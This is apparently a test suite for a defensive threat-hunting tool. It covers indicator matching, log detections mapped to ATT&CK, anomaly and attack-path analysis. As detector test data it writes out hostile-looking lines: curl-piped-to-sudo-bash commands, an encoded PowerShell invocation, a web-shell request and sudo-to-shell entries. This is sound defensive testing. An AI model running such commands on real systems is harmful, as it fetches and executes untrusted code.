import { strict as assert } from 'node:assert';
import * as path from 'node:path';
import type { Artifact, Skill, SkillContext, StepRequest } from '../../../../server/src/engine/rigor/skill';
import {
  IocMatcher, RangeSet, TECHNIQUES, attackPathsSkill, detectAnomalies, detectLine, findAttackPaths, huntSkill, hunt, loadIndicators,
  parseCidr, parseIndicators, parseIp, parseLogLine, parseSeriesCsv, changePoint, normalizeUrl, resolveLogFiles, threatSkills,
  type AssetGraph, type HuntData, type PathReport,
} from '../../../../server/src/skills/threat';

const WS = path.resolve(__dirname, '../../../fixtures/threat/workspace');

function ctx(partial: { input?: Record<string, unknown>; workspace?: string; action?: string; tier?: string }): SkillContext {
  const request: StepRequest = {
    executionId: 'e1', step: 0, agentId: 'threathunter-ai', action: partial.action ?? 'hunt',
    goal: { id: 'goal-1', prompt: 'hunt for threats' }, input: partial.input ?? {}, scope: 'workspace' as StepRequest['scope'],
    tier: (partial.tier ?? 'ultra') as StepRequest['tier'], previous: [], ...(partial.workspace ? { workspace: partial.workspace } : {}),
  };
  return { request, signal: new AbortController().signal, progress() {}, allowed: () => false, once: (_k, f) => f() };
}

async function run(skill: Skill, c: SkillContext): Promise<{ artifact: Artifact; actions: unknown[]; pathsRead: string[] }> {
  const evidence = await skill.research(c);
  const actions = await skill.propose(c, evidence);
  const artifact = await skill.generate(c, evidence);
  return { artifact, actions, pathsRead: evidence.pathsRead };
}

const m = (indicators: unknown[]) => new IocMatcher(parseIndicators(indicators).indicators);

describe('threathunter-ai', () => {
  describe('CIDR matching', () => {
    it('handles IPv4 boundaries, /0, /32 and masks host bits', () => {
      const r = parseCidr('10.1.2.3/8')!;
      assert.equal(r.start, parseIp('10.0.0.0')!.value);
      assert.equal(r.end, parseIp('10.255.255.255')!.value);
      const set = new RangeSet([{ range: parseCidr('192.168.1.0/31')!, item: 'a' }, { range: parseCidr('0.0.0.0/0')!, item: 'all' }, { range: parseCidr('192.168.0.0/16')!, item: 'b' }]);
      assert.deepEqual(set.lookup(parseIp('192.168.1.1')!), ['a', 'b', 'all']);
      assert.deepEqual(set.lookup(parseIp('192.168.1.2')!), ['b', 'all']);
      assert.deepEqual(set.lookup(parseIp('192.169.0.0')!), ['all']);
      assert.deepEqual(set.lookup(parseIp('::1')!), []);
      assert.equal(parseCidr('1.2.3.4/33'), undefined);
      assert.equal(parseCidr('256.1.1.1'), undefined);
      const mm = m(['198.51.100.200/30', '203.0.113.7']);
      assert.equal(mm.match('to 198.51.100.203 ok').length, 1);
      assert.equal(mm.match('to 198.51.100.204 ok').length, 0);
      assert.equal(mm.match('to 198.51.100.199 ok').length, 0);
      assert.equal(mm.match('from 203.0.113.7:443').length, 1);
      assert.equal(mm.match('from 203.0.113.70').length, 0, 'no partial address');
      assert.equal(mm.match('version 1.203.0.113.7').length, 0, 'not inside a longer dotted run');
    });
    it('handles IPv6 compression, embedded IPv4, zones and IPv4-mapped addresses', () => {
      assert.equal(parseIp('2001:db8::1')!.value, parseIp('2001:0db8:0000:0000:0000:0000:0000:0001')!.value);
      assert.equal(parseIp('::ffff:192.0.2.1')!.family, 4);
      assert.equal(parseIp('fe80::1%eth0')!.family, 6);
      assert.equal(parseIp('1:2:3:4:5:6:7:8:9'), undefined);
      assert.equal(parseIp('1::2::3'), undefined);
      const r = parseCidr('2001:db8:dead::/48')!;
      assert.equal(r.end - r.start + 1n, 1n << 80n);
      const mm = m(['2001:db8:dead::/48', '::/0', '192.0.2.0/24']);
      // ::/0 matches every v6 address; the most specific range is reported.
      assert.equal(mm.match('src=2001:db8:dead:ffff:ffff:ffff:ffff:ffff')[0]!.indicator.value, '2001:db8:dead::/48');
      assert.equal(mm.match('src=2001:db8:deae::1')[0]!.indicator.value, '::/0');
      assert.equal(mm.match('src [::ffff:192.0.2.44]:80')[0]!.indicator.value, '192.0.2.0/24', 'mapped v4 hits the v4 range');
      assert.equal(m(['2001:db8:dead::/48']).match('at 12:30:45 ok').length, 0, 'a time is not an address');
    });
  });

  describe('domains, hashes and URLs', () => {
    it('matches a domain and its subdomains as whole labels, case-insensitively', () => {
      const mm = m(['evil.com']);
      assert.equal(mm.match('GET http://A.EVIL.COM/x').length, 1);
      assert.equal(mm.match('resolved evil.com.').length, 1);
      assert.equal(mm.match('host=notevil.com').length, 0);
      assert.equal(mm.match('host=evil.com.example.org').length, 0);
      assert.equal(mm.match('host=evil.community').length, 0);
      assert.equal(mm.match('mail from bob@mx.evil.com').length, 1);
    });
    it('matches md5/sha1/sha256 hashes exactly and types indicators', () => {
      const md5 = '741bbfe6375f736d064a3e23f004676d';
      const sha1 = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';
      const mm = m([md5, { value: sha1, type: 'sha1', severity: 'low' }]);
      assert.equal(mm.match(`file hash ${md5.toUpperCase()}`)[0]!.indicator.type, 'hash');
      assert.equal(mm.match(`sha1=${sha1}`)[0]!.indicator.severity, 'low');
      assert.equal(mm.match(`x${md5}0`).length, 0, 'not inside a longer hex run');
      assert.equal(parseIndicators(['abc123']).rejected.length, 1);
    });
    it('normalizes URL scheme/host case and default port, and matches prefixes at a boundary', () => {
      assert.equal(normalizeUrl('HTTP://Evil.COM:80'), 'http://evil.com/');
      const mm = m(['http://malware.example.net/payload']);
      assert.equal(mm.match('ref HTTP://Malware.EXAMPLE.net:80/payload/run?id=7').length, 1);
      assert.equal(mm.match('ref http://malware.example.net/payload?x=1').length, 1);
      assert.equal(mm.match('ref http://malware.example.net/payloadx').length, 0);
      assert.equal(mm.match('ref https://malware.example.net/payload').length, 0, 'scheme is part of the indicator');
    });
  });

  describe('detections and ATT&CK mapping', () => {
    const authLine = (i: number, ip = '203.0.113.9') => `Nov 21 10:00:0${i} h sshd[1]: Failed password for root from ${ip} port 1 ssh2`;
    it('maps every detection kind to a technique with id, name and tactic', () => {
      for (const [kind, t] of Object.entries(TECHNIQUES)) assert.match(t.id, /^T\d{4}(\.\d{3})?$/, kind);
      assert.equal(TECHNIQUES['ssh-brute-force'].id, 'T1110');
      assert.equal(TECHNIQUES['unexpected-sudo'].id, 'T1548');
      assert.equal(TECHNIQUES['web-shell'].id, 'T1505.003');
      assert.equal(TECHNIQUES['encoded-powershell'].id, 'T1059.001');
      assert.equal(TECHNIQUES['curl-pipe-shell'].id, 'T1059.004');
      assert.equal(TECHNIQUES['ioc-contact'].id, 'T1071');
      assert.equal(TECHNIQUES['scanner-user-agent'].tactic, 'Reconnaissance');
    });
    it('flags SSH brute force only at the threshold of failed logins from one IP', async () => {
      const fs = await import('node:fs');
      const os = await import('node:os');
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'th-'));
      try {
        const f = path.join(dir, 'auth.log');
        fs.writeFileSync(f, [1, 2, 3, 4].map((i) => authLine(i)).concat([authLine(5, '203.0.113.10')]).join('\n'));
        assert.equal(hunt([f], []).detections.length, 0, '4 from one IP, 1 from another: below 5');
        fs.appendFileSync(f, '\n' + authLine(6));
        const d = hunt([f], []).detections;
        assert.equal(d.length, 1);
        assert.equal(d[0]!.technique.id, 'T1110');
        assert.equal(d[0]!.count, 5);
        assert.equal(d[0]!.ip, '203.0.113.9');
        assert.equal(d[0]!.severity, 'high');
        assert.equal(hunt([f], [], { bruteForceThreshold: 6 }).detections.length, 0);
      } finally { fs.rmSync(dir, { recursive: true, force: true }); }
    });
    it('detects sudo by service accounts or outside an allow-list, web shells, encoded PowerShell, curl|bash and scanners', () => {
      const kinds = (line: string, opts = {}) => detectLine(parseLogLine(line), opts).map((s) => s.kind);
      const sudo = 'Nov 21 10:03:00 web1 sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/sh';
      assert.deepEqual(kinds(sudo), ['unexpected-sudo']);
      assert.deepEqual(kinds(sudo.replace('www-data', 'alice')), []);
      assert.deepEqual(kinds(sudo.replace('www-data', 'alice'), { sudoUsers: ['root'] }), ['unexpected-sudo']);
      assert.deepEqual(kinds('1.2.3.4 - - [x] "GET /up/x.php?c=id HTTP/1.1" 200 1 "-" "curl"'), ['web-shell']);
      assert.deepEqual(kinds('1.2.3.4 - - [x] "GET /search?q=cmd HTTP/1.1" 200 1 "-" "Mozilla"'), []);
      assert.deepEqual(kinds('{"cmd":"powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"}'), ['encoded-powershell']);
      assert.deepEqual(kinds('run: curl -fsSL https://x.sh/i | sudo bash'), ['curl-pipe-shell']);
      assert.deepEqual(kinds('1.2.3.4 - - [x] "GET /?a=%60curl%20x%7Cbash%60 HTTP/1.1" 400 0 "-" "Mozilla"'), ['curl-pipe-shell']);
      assert.deepEqual(kinds('1.2.3.4 - - [x] "GET / HTTP/1.1" 200 1 "-" "sqlmap/1.7"'), ['scanner-user-agent']);
    });
    it('hunts the fixture logs in one pass: IOC findings and mapped detections', () => {
      const ind = loadIndicators(undefined, WS)!;
      assert.equal(ind.indicators.length, 6);
      const r = hunt(resolveLogFiles(undefined, WS), ind.indicators, {}, WS);
      assert.deepEqual(r.files.map((f) => f.file), ['logs/access.log', 'logs/app.log', 'logs/auth.log']);
      const rules = r.findings.map((f) => `${f.ruleId}@${f.file}:${f.range.startLine}`);
      for (const want of ['ioc/ip@logs/access.log:3', 'ioc/ip@logs/access.log:7', 'ioc/domain@logs/access.log:9', 'ioc/url@logs/access.log:10', 'ioc/hash@logs/app.log:2', 'ioc/ip@logs/app.log:6', 'ioc/ip@logs/auth.log:14']) assert.ok(rules.includes(want), want);
      assert.ok(!rules.includes('ioc/url@logs/access.log:11'));
      const ip = r.findings.find((f) => f.ruleId === 'ioc/ip' && f.range.startLine === 3)!;
      assert.equal(ip.severity, 'medium');
      assert.match(ip.message, /45\.33\.32\.0\/24.*feed-A; scanner range/);
      assert.equal(ip.fingerprint.length, 32);
      const techs = new Set(r.detections.map((d) => d.technique.id));
      for (const t of ['T1110', 'T1548', 'T1505.003', 'T1059.001', 'T1059.004', 'T1071', 'T1595']) assert.ok(techs.has(t), t);
      const bf = r.detections.find((d) => d.kind === 'ssh-brute-force')!;
      assert.equal(bf.severity, 'critical', 'success after the failures');
      assert.deepEqual([bf.range.startLine, bf.count], [1, 6]);
      assert.equal(r.counts.lines, 33);
      assert.equal(r.counts.parsedLines, 32);
    });
  });

  describe('anomalies', () => {
    const flat = (n: number, v = 100) => Array.from({ length: n }, (_, i) => ({ t: i, count: v + (i % 3) - 1 }));
    it('flags a spike with z > 3 and reports time, value, expected and z', () => {
      const s = flat(30);
      s[20] = { t: 20, count: 180 };
      const r = detectAnomalies(s, { window: 8 });
      assert.equal(r.anomalies.length, 1);
      const a = r.anomalies[0]!;
      assert.equal(a.t, 20);
      assert.equal(a.value, 180);
      assert.ok(Math.abs(a.expected - 100) < 1);
      assert.ok(a.z > 3);
      assert.equal(detectAnomalies(flat(30)).anomalies.length, 0);
      assert.equal(r.changePoint, undefined);
    });
    it('reads a CSV series and finds a mean shift between halves', () => {
      const s = parseSeriesCsv('time,count\n' + Array.from({ length: 20 }, (_, i) => `${i},${(i < 10 ? 50 : 90) + (i % 2)}`).join('\n'));
      assert.equal(s.length, 20);
      const cp = changePoint(s)!;
      assert.equal(cp.index, 10);
      assert.ok(cp.meanAfter > cp.meanBefore);
    });
  });

  describe('attack paths', () => {
    it('ranks simple paths by hops then risk and terminates on cycles', () => {
      const g: AssetGraph = {
        nodes: [
          { id: 'a', kind: 'server', exposed: true, vulnerabilities: [{ id: 'v1', severity: 5 }] },
          { id: 'b', kind: 'server', vulnerabilities: [{ id: 'v2', severity: 9 }] },
          { id: 'c', kind: 'server', vulnerabilities: [{ id: 'v3', severity: 2 }] },
          { id: 'db', kind: 'database' },
          { id: 'crown', kind: 'server', value: 9 },
        ],
        edges: [{ from: 'a', to: 'b', via: 'x' }, { from: 'b', to: 'a', via: 'back' }, { from: 'a', to: 'c', via: 'y' }, { from: 'b', to: 'db', via: 'sql' }, { from: 'c', to: 'db', via: 'sql' }, { from: 'db', to: 'crown', via: 'link' }, { from: 'crown', to: 'b', via: 'loop' }],
      };
      const r = findAttackPaths(g);
      assert.deepEqual(r.paths.map((p) => p.nodes.join('>')), ['a>b>db', 'a>c>db', 'a>b>db>crown', 'a>c>db>crown']);
      assert.deepEqual(r.paths.map((p) => p.risk), [14, 7, 14, 7]);
      assert.equal(r.truncated, false);
      assert.deepEqual(findAttackPaths(g, { maxPaths: 1 }).paths.length, 1);
      assert.equal(findAttackPaths(g, { maxDepth: 2 }).paths.length, 2);
      assert.equal(findAttackPaths(g, { valueThreshold: 100 }).targets.includes('crown'), false);
    });
  });

  describe('skills', () => {
    it('exports both actions', () => {
      assert.deepEqual(threatSkills.map((s) => `${s.agentId}/${s.action}`), ['threathunter-ai/hunt', 'threathunter-ai/attack-paths']);
    });
    it('hunt: workspace logs, indicators and a series through the Skill interface', async () => {
      const { artifact, actions, pathsRead } = await run(huntSkill, ctx({ workspace: WS, input: { series: 'metrics/events.csv' } }));
      assert.equal(artifact.unable, undefined);
      assert.equal(artifact.goalRef, 'goal-1');
      const d = artifact.data as HuntData;
      assert.equal(d.counts.iocHits, 9);
      assert.ok(d.detections.every((x) => x.technique.id && x.technique.name && x.technique.tactic));
      assert.equal(d.anomalies.length, 1);
      assert.equal(d.anomalies[0]!.value, 260);
      assert.ok(pathsRead.includes('.cadre/indicators.json') && pathsRead.includes('logs/auth.log') && pathsRead.includes('metrics/events.csv'));
      assert.equal(actions.length, 1);
      assert.ok(artifact.confidence > 0.5 && artifact.confidence < 1);
      assert.match(artifact.summary, /9 indicator hit/);
      assert.match(artifact.text!, /T1110 Brute Force/);
    });
    it('hunt: confidence follows the evidence (fewer indicators, unparsed lines)', async () => {
      const full = (await run(huntSkill, ctx({ workspace: WS }))).artifact;
      const noInd = (await run(huntSkill, ctx({ workspace: WS, input: { indicators: [], logs: ['logs/app.log'] } }))).artifact;
      assert.ok(noInd.confidence < full.confidence);
      assert.equal((noInd.data as HuntData).counts.iocHits, 0);
      assert.ok((noInd.data as HuntData).detections.some((x) => x.technique.id === 'T1059.001'));
    });
    it('hunt: not applicable (not unable) when there is nothing to hunt in', async () => {
      const a = (await run(huntSkill, ctx({}))).artifact;
      assert.match(a.notApplicable!, /nothing to hunt in/);
      assert.equal(a.unable, undefined);
      const b = (await run(huntSkill, ctx({ input: { indicators: ['evil.com'] } }))).artifact;
      assert.match(b.notApplicable!, /no log files/);
      assert.equal(b.unable, undefined);
    });
    it('attack-paths: ULTRA gets ranked paths from the workspace asset graph', async () => {
      const { artifact } = await run(attackPathsSkill, ctx({ workspace: WS, action: 'attack-paths' }));
      assert.equal(artifact.unable, undefined);
      const d = artifact.data as { paths: PathReport['paths']; counts: { danglingEdges: number } };
      assert.deepEqual(d.paths[0]!.nodes, ['vpn', 'jump', 'vault']);
      assert.deepEqual(d.paths.map((p) => p.hops), [2, 2, 3, 5]);
      assert.equal(d.counts.danglingEdges, 1);
      assert.ok(artifact.confidence > 0 && artifact.confidence < 1);
    });
    it('attack-paths: below ULTRA answers with a preview and no paths; no graph is unable', async () => {
      const { artifact } = await run(attackPathsSkill, ctx({ workspace: WS, action: 'attack-paths', tier: 'pro' }));
      assert.equal(artifact.kind, 'attack-paths-preview');
      const d = artifact.data as Record<string, unknown>;
      assert.equal(d['preview'], true);
      assert.equal(d['paths'], undefined);
      assert.equal((d['counts'] as { paths: number }).paths, 4);
      assert.match(String(d['reason']), /ULTRA feature attack-path-analysis/);
      const none = (await run(attackPathsSkill, ctx({ action: 'attack-paths' }))).artifact;
      assert.match(none.unable!, /no asset graph/);
    });
  });
});
